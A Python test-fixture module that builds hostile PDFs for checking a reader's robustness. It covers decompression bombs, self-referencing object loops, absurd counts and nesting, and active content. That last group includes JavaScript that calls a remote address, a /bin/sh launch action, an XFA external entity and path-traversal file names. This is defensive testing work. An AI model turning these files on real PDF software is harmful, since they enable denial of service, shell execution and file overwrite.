"""PDFs that mean harm, written here byte by byte: bombs, rings, lies, scripts."""

import zlib
from collections.abc import Iterator

from tests.corpus.readers.making import encrypt, make_pdf, make_raw_pdf, make_zip

WORDS = b"BT /F1 12 Tf 20 200 Td (Children in care are seen regularly by their workers.) Tj ET"
_FONT = b"<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>"
_MEGABYTE = 1 << 20


def bomb(megabytes: int) -> bytes:
    """Deflated zeros, a thousandth of what they unpack to; made without unpacking them."""
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    block = packer.compress(bytes(_MEGABYTE)) + packer.flush(zlib.Z_FULL_FLUSH)
    return b"\x78\xda" + block * megabytes + b"\x03\x00" + bytes(4)


def stream(contents: bytes, more: bytes = b"") -> bytes:
    """The body of a stream object; `more` goes into its dictionary."""
    return b"<</Length %d %b>>\nstream\n%b\nendstream" % (len(contents), more, contents)


def page_of(
    contents: bytes = WORDS,
    *others: bytes,
    page: bytes = b"",
    root: bytes = b"",
    font: bytes = _FONT,
    packed: bytes = b"",
) -> bytes:
    """A page with this description; `others` are objects from 6 on, named X6, X7, … on the page.

    `page` and `root` go into the dictionaries of the page and of the document; `packed` into that
    of the description, which it says how to unpack.
    """
    named = b"".join(b"/X%d %d 0 R" % (n, n) for n in range(6, 6 + len(others)))
    return make_raw_pdf(
        b"<</Type/Catalog/Pages 2 0 R %b>>" % root,
        b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
        b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 400 300]/Contents 4 0 R"
        b"/Resources<</Font<</F1 5 0 R>>/XObject<<%b>>/Pattern<<%b>>>>%b>>" % (named, named, page),
        stream(contents, packed),
        font,
        *others,
    )


def form(contents: bytes, names: bytes) -> bytes:
    """A drawing that pages and other drawings may draw; `names` are those it draws."""
    head = b"/Type/XObject/Subtype/Form/BBox[0 0 400 300]/Resources<</Font<</F1 5 0 R>>/XObject<<"
    return stream(contents, head + names + b">>>>")


def picture(width: int, height: int, data: bytes, filters: bytes, more: bytes = b"") -> bytes:
    """A picture that says it is so large."""
    return stream(
        data,
        b"/Type/XObject/Subtype/Image/Width %d/Height %d/ColorSpace/DeviceGray/BitsPerComponent 8"
        b"/Filter%b%b" % (width, height, filters, more),
    )


def laughing(depth: int = 12) -> bytes:
    """Drawings that each draw the next ten times: 10 to the power of `depth` lines of text."""
    drawings = [
        form(b"/X%d Do\n" % (n + 1) * 10, b"/X%d %d 0 R" % (n + 1, n + 1))
        for n in range(6, 6 + depth)
    ]
    return page_of(b"/X6 Do", *drawings, form(WORDS, b""))


def pdfs(remote: str) -> Iterator[tuple[str, bytes]]:
    """All of them by name; those that would call somewhere call `remote`, a web address."""
    yield from _bombs()
    yield from _rings()
    yield from _lies()
    yield from _doers(remote.encode())
    yield from _mixed()


def _bombs() -> Iterator[tuple[str, bytes]]:
    flate = b"/Filter/FlateDecode"
    twice = b"/Filter[/FlateDecode/FlateDecode]"
    hidden = b"/Filter[/ASCIIHexDecode/FlateDecode]"
    yield "flate", page_of(bomb(2_000), packed=flate)
    yield "flate twice", page_of(zlib.compress(bomb(4_000)), packed=twice)
    yield "flate in hex", page_of(bomb(500).hex().encode() + b">", packed=hidden)
    yield "flate ten times", page_of(bomb(40), packed=b"/Filter[" + b"/FlateDecode " * 10 + b"]")
    yield "no such map", page_of(font=_FONT[:-2] + b"/ToUnicode 6 0 R>>")
    yield (
        "picture",
        page_of(b"400 0 0 300 0 0 cm /X6 Do", picture(20_000, 20_000, bomb(400), b"/FlateDecode")),
    )
    for name in (b"DCTDecode", b"JPXDecode", b"JBIG2Decode", b"RunLengthDecode", b"LZWDecode"):
        yield (
            f"picture {name.decode()}",
            page_of(
                b"400 0 0 300 0 0 cm /X6 Do",
                picture(65_000, 65_000, b"\xff\xd8\xff\xe0", b"/" + name),
            ),
        )
    fax = b"/DecodeParms<</K -1/Columns 60000/Rows 60000>>"
    yield "fax", page_of(b"/X6 Do", picture(60_000, 60_000, bytes(500), b"/CCITTFaxDecode", fax))
    predictor = b"/DecodeParms<</Predictor 15/Columns 100000000/Colors 32/BitsPerComponent 16>>"
    yield "predictor", page_of(zlib.compress(WORDS), packed=flate + predictor)
    yield "drawings that draw drawings", laughing()
    yield "a large page", page_of(page=b"/MediaBox[0 0 99999999 99999999]/UserUnit 10000")
    yield (
        "ten thousand pages",
        make_raw_pdf(
            b"<</Type/Catalog/Pages 2 0 R>>",
            b"<</Type/Pages/Kids[" + b"3 0 R " * 10_000 + b"]/Count 10000>>",
            b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 400 300]>>",
        ),
    )
    tiles = stream(
        b"0 0 1 1 re f",
        b"/Type/Pattern/PatternType 1/PaintType 1/TilingType 1/BBox[0 0 1 1]/XStep .0001"
        b"/YStep .0001/Resources<<>>",
    )
    yield "tiles", page_of(b"/Pattern cs /X6 scn 0 0 400 300 re f", tiles)


def _rings() -> Iterator[tuple[str, bytes]]:
    page = b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 400 300]/Contents 3 0 R>>"
    catalogue = b"<</Type/Catalog/Pages 2 0 R>>"
    yield (
        "pages in themselves",
        make_raw_pdf(catalogue, b"<</Type/Pages/Kids[2 0 R 2 0 R 3 0 R]/Count 3>>", page),
    )
    yield (
        "pages whose parent is a child",
        make_raw_pdf(
            catalogue,
            b"<</Type/Pages/Kids[3 0 R]/Parent 3 0 R/Count 1>>",
            b"<</Type/Pages/Kids[4 0 R]/Parent 4 0 R/Count 1>>",
            b"<</Type/Pages/Kids[2 0 R]/Parent 2 0 R/Count 1>>",
        ),
    )
    yield (
        "contents in themselves",
        make_raw_pdf(
            catalogue,
            b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
            b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 400 300]/Contents[4 0 R 3 0 R]>>",
            b"[4 0 R 4 0 R]",
        ),
    )
    yield "a value that is itself", make_raw_pdf(b"1 0 R")
    yield "a length that is itself", make_raw_pdf(
        catalogue, b"<</Type/Pages/Kids[3 0 R]/Count 1>>", page.replace(b"3 0 R", b"4 0 R"),
        b"<</Length 4 0 R>>\nstream\nx\nendstream",
    )  # fmt: skip
    outline = b"/Outlines 6 0 R"
    entry = (
        b"<</Title(One)/Next 7 0 R/Prev 7 0 R/First 7 0 R/Last 7 0 R/Parent 6 0 R/Dest[3 0 R/Fit]>>"
    )
    yield (
        "bookmarks",
        page_of(WORDS, b"<</Type/Outlines/First 7 0 R/Last 7 0 R/Count 9>>", entry, root=outline),
    )
    yield "drawings in themselves", page_of(b"/X6 Do " + WORDS, form(b"/X6 Do", b"/X6 6 0 R"))
    glyph = (
        b"<</Type/Font/Subtype/Type3/FontBBox[0 0 1 1]/FontMatrix[1 0 0 1 0 0]/FirstChar 65"
        b"/LastChar 65/Widths[1]/CharProcs<</a 6 0 R>>/Encoding<</Differences[65/a]>>/Resources"
        b"<</Font<</F1 5 0 R>>>>>>"
    )
    yield (
        "glyphs in themselves",
        page_of(WORDS, stream(b"1 0 d0 BT /F1 1 Tf (AAAA) Tj ET"), font=glyph),
    )
    yield (
        "fonts in themselves",
        page_of(
            font=b"<</Type/Font/Subtype/Type0/BaseFont/A/Encoding/Identity-H"
            b"/DescendantFonts[5 0 R]>>"
        ),
    )
    labels = b"/PageLabels<</Kids[6 0 R]>>/Names<</Dests 6 0 R/EmbeddedFiles 6 0 R>>"
    yield "labels and names", page_of(WORDS, b"<</Kids[6 0 R 6 0 R]>>", root=labels)
    whole = page_of()
    start = int(whole.rsplit(b"startxref\n", 1)[1].split()[0])
    yield "tables of places", whole.replace(b"trailer <<", b"trailer <</Prev %d" % start)
    yield (
        "a deep tree",
        make_raw_pdf(
            catalogue,
            *(b"<</Type/Pages/Kids[%d 0 R]/Count 1>>" % (n + 1) for n in range(2, 5_000)),
            b"<</Type/Page/Parent 4999 0 R/MediaBox[0 0 400 300]>>",
        ),
    )


def _lies() -> Iterator[tuple[str, bytes]]:
    yield "two thousand million pages", page_of().replace(b"/Count 1", b"/Count 2147483647")
    yield "fewer pages than none", page_of().replace(b"/Count 1", b"/Count -5")
    yield "nested lists", make_raw_pdf(b"[" * 200_000)
    yield "nested dictionaries", make_raw_pdf(b"<</A" * 100_000)
    yield "nested words", page_of(b"[" * 100_000 + b"(" * 100_000)
    yield "saved states", page_of(b"q " * 300_000 + WORDS)
    yield "marks", page_of(b"/P <</A " * 50_000 + WORDS)
    yield "a long name", page_of(b"/" + b"N" * 2_000_000 + b" gs " + WORDS)
    yield "endless numbers", page_of(b"9" * 500_000 + b" 0 Td " + WORDS)
    yield "places far away", page_of().replace(b"/Size 6", b"/Size 2147483647")
    table = stream(
        zlib.compress(bytes(24)),
        b"/Type/XRef/Size 2147483647/W[8 8 8]/Index[0 2147483647]/Root 1 0 R/Filter/FlateDecode",
    )
    yield "a table of places", b"%PDF-1.5\n1 0 obj " + table + b" endobj\nstartxref\n9\n%%EOF"
    held = stream(b"1 0 2 0 3 0", b"/Type/ObjStm/N 1000000000/First 2147483647/Extends 6 0 R")
    yield "objects in a stream", page_of(WORDS, held)
    font = b"<</Type/Font/Subtype/TrueType/BaseFont/A/FirstChar 0/LastChar 2147483647/Widths[1]"
    descriptor = b"/FontDescriptor<</Type/FontDescriptor/FontName/A/Flags 4/FontFile2 6 0 R>>>>"
    torn = b"\0\1\0\0\xff\xff\0\0\0\0\0\0glyf" + bytes(4) + b"\xff" * 200
    yield "a font file", page_of(WORDS, stream(torn), font=font + descriptor)
    ranges = b"begincmap 1 begincodespacerange <00000000> <FFFFFFFF> endcodespacerange "
    ranges += b"9999 beginbfrange <0000> <FFFFFFFF> <0041> " * 500 + b"endbfrange endcmap"
    yield (
        "a map of characters",
        page_of(WORDS, stream(ranges), font=_FONT[:-2] + b"/ToUnicode 6 0 R>>"),
    )
    half = b"1 beginbfrange <20> <7A> <D800> endbfrange"
    yield "half characters", page_of(WORDS, stream(half), font=_FONT[:-2] + b"/ToUnicode 6 0 R>>")
    yield (
        "an odd title",
        page_of(root=b"/Lang(%b)" % (b"x" * 100_000)).replace(
            b"trailer <<",
            b"trailer <</Info<</Title(%b)/CreationDate(D:99999999999999)>>" % (b"A" * 500_000),
        ),
    )
    yield "a password", encrypt(make_pdf(), user="secret")
    yield (
        "an odd lock",
        page_of().replace(
            b"trailer <<",
            b"trailer <</Encrypt<</Filter/Standard/V 5/R 6/O()/U()/P -1/Length 999999>>",
        ),
    )


def _doers(remote: bytes) -> Iterator[tuple[str, bytes]]:
    script = b"app.launchURL('%b/js');this.submitForm('%b/form');while(1){}" % (remote, remote)
    action = b"<</S/JavaScript/JS(%b)>>" % script
    yield (
        "scripts",
        page_of(
            root=b"/OpenAction %b/AA<</WC %b>>/Names<</JavaScript<</Names[(a) %b]>>>>"
            % ((action,) * 3),
            page=b"/AA<</O %b/C %b>>" % (action, action),
        ),
    )
    launch = b"<</S/Launch/F(/bin/sh)/Unix<</F(/bin/sh)/P(-c 'touch launched')>>/NewWindow true>>"
    yield "launching", page_of(root=b"/OpenAction " + launch, page=b"/AA<</O " + launch + b">>")
    elsewhere = b"<</Type/Filespec/FS/URL/F(%b/file)>>" % remote
    yield (
        "calling",
        page_of(
            b"/X6 Do " + WORDS,
            stream(b"", b"/Type/XObject/Subtype/Form/BBox[0 0 9 9]/F " + elsewhere),
            root=b"/OpenAction<</S/URI/URI(%b/uri)>>/URI<</Base(%b)>>" % (remote, remote),
            page=b"/Annots[<</Type/Annot/Subtype/Link/Rect[0 0 400 300]/A<</S/SubmitForm/F %b>>>>"
            b"<</Type/Annot/Subtype/Movie/Rect[0 0 9 9]/Movie<</F %b>>>>]" % (elsewhere, elsewhere),
        ),
    )
    xfa = stream(
        b"<?xml version='1.0'?><!DOCTYPE x [<!ENTITY e SYSTEM '%b/xfa'>]><xdp>&e;</xdp>" % remote
    )
    yield (
        "forms",
        page_of(WORDS, xfa, root=b"/AcroForm<</XFA 6 0 R/Fields[]/NeedAppearances true>>"),
    )
    yield (
        "a file inside",
        page_of(
            WORDS,
            b"<</Type/Filespec/F(../../../evil.sh)/EF<</F 7 0 R>>>>",
            stream(bomb(300), b"/Type/EmbeddedFile/Filter/FlateDecode"),
            root=b"/Names<</EmbeddedFiles<</Names[(x) 6 0 R]>>>>",
        ),
    )


def _mixed() -> Iterator[tuple[str, bytes]]:
    pdf = page_of()
    yield "a web page before it", b"<html><script>x</script><!--\n" + pdf + b"--></html>"
    yield "a picture before it", b"GIF89a\x01\0\x01\0\0\0\0;" + pdf
    yield "an archive after it", pdf + make_zip({"word/document.xml": b"<x/>", "../../e": b"x"})
    yield "an archive before it", make_zip({"a": b"x"})[:200] + pdf
    yield "half of it", pdf[: len(pdf) // 2]
    yield "two of it", pdf + pdf
    yield "nothing else", b"%PDF-1.7\n%%EOF"
